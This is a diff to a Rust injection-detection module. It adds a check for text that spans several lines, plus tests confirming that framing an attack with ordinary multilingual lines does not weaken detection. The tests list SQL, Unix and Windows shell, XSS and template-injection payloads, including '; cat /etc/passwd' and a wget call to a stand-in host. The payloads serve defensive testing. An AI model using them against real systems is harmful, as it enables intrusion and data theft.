@@ -8,8 +8,9 @@
 //! The operators of the same subject in [`super::operators`] hand values to them.
 
 mod address;
-mod document;
+mod fragment;
 mod graphql;
+mod lines;
 mod markup;
 mod path;
 mod shell;
@@ -17,8 +18,9 @@ mod sql;
 mod template;
 
 pub(super) use address::{Reach, reach};
-pub(super) use document::is_document;
+pub(super) use fragment::fragments;
 pub(super) use graphql::GraphqlCost;
+pub(super) use lines::spans_lines;
 pub(super) use markup::markup;
 pub(super) use path::levels_above_root;
 pub(super) use shell::{Dialect, shell};
@@ -61,13 +63,95 @@ impl Finding {
         strength.map(|strength| Self { strength, from })
     }
 
-    /// As it counts in this value.
+    /// As it counts in this value: what is found across the lines of a text is only possible.
     fn within(self, value: &[u8]) -> Self {
-        if is_document(value) { self.in_document() } else { self }
+        if spans_lines(value) { Self { strength: Strength::Possible, ..self } } else { self }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    type Judge = fn(&[u8]) -> Option<Finding>;
+
+    const ATTACKS: &[(Judge, &[&str])] = &[
+        (
+            sql,
+            &[
+                "1' OR '1'='1",
+                "1 or 1=1",
+                "admin'--",
+                "1 union select 1,2",
+                "'; drop table users--",
+                "1 order by 3--",
+            ],
+        ),
+        (
+            |value| shell(value, Dialect::Unix),
+            &["; cat /etc/passwd", "x; id", "`id`", "$(sleep 5)", "a|whoami", "&& wget http://e.example/x"],
+        ),
+        (|value| shell(value, Dialect::Windows), &["& dir c:\\", "| type c:\\boot.ini", "&& ipconfig /all"]),
+        (
+            markup,
+            &[
+                "<script>alert(1)</script>",
+                "<img src=x onerror=alert(1)>",
+                "' onfocus=alert(1) x='",
+                "javascript:alert(1)",
+            ],
+        ),
+        (template, &["{{7*7}}", "${T(java.lang.Runtime).getRuntime()}", "{{config.items()}}", "<%= 7*7 %>"]),
+    ];
+
+    /// Lines that people write, before and behind.
+    const LINES: &[(&str, &str)] = &[
+        ("Hello team, this is what I found on Monday.", "Please tell me if it works for you."),
+        ("Bitte prüft, ob das so geht, und sagt mir Bescheid.", "Vielen Dank für die Hilfe."),
+        ("Voici le texte que je voulais vous montrer.", "Merci d'avance et à bientôt."),
+        ("Este es el texto que quería enviar.", "Gracias por la ayuda."),
+        ("Вот текст, который я хотел показать.", "Спасибо за помощь."),
+        ("この商品について教えてください。", "よろしくお願いします。"),
+        ("请帮我看看这个文本。", "谢谢你的帮助。"),
+        ("هذا هو النص الذي أردت إرساله", "شكرا على المساعدة"),
+        ("# Report\n\n- size: 42\n- colour: red", "That is **all**."),
+        ("SELECT name FROM users;\nfn main() {}\nif (a && b) { c(); }", "return x;\necho done"),
+    ];
+
+    #[test]
+    fn no_line_around_an_attack_lowers_it() {
+        let mut ran = 0;
+        for (judge, attacks) in ATTACKS {
+            for attack in *attacks {
+                let plain = judge(attack.as_bytes()).map(|found| found.strength);
+                assert!(plain.is_some(), "{attack}");
+                for (before, after) in LINES {
+                    for line_end in ["\n", "\r\n", "\n\n", "\n> ", "\nuser: "] {
+                        // What quotes and names a line is part of it, but stands before the attack.
+                        let text = format!("{before}{line_end}{attack}\n{after}");
+                        let framed = judge(text.as_bytes()).map(|found| found.strength);
+                        assert!(framed >= plain, "{plain:?} -> {framed:?}: {text}");
+                        ran += 1;
+                    }
+                }
+            }
+        }
+        assert!(ran > 1_000, "{ran}");
     }
 
-    /// What is certain in a field is only possible in a document.
-    fn in_document(self) -> Self {
-        Self { strength: Strength::Possible, ..self }
+    #[test]
+    fn fragments_are_the_lines_sentences_and_strings() {
+        let parts = |value: &str| {
+            let parts = fragments(value.as_bytes()).map(|(at, part)| {
+                assert!(value.as_bytes()[at..].starts_with(part));
+                String::from_utf8(part.to_vec()).unwrap()
+            });
+            parts.collect::<Vec<_>>()
+        };
+        assert_eq!(parts("one line"), Vec::<String>::new());
+        assert_eq!(parts("first\r\nsecond"), ["first", "second"]);
+        assert_eq!(parts("Hello. How are you? x: 1=1"), ["Hello", "How are you", "1=1"]);
+        assert_eq!(parts("<p>it is here</p>"), ["it is here</p>"]);
+        assert_eq!(parts("{\"name\":\"a \\\"b\\\"\"}"), ["name", "a \\\"b\\\""]);
     }
 }
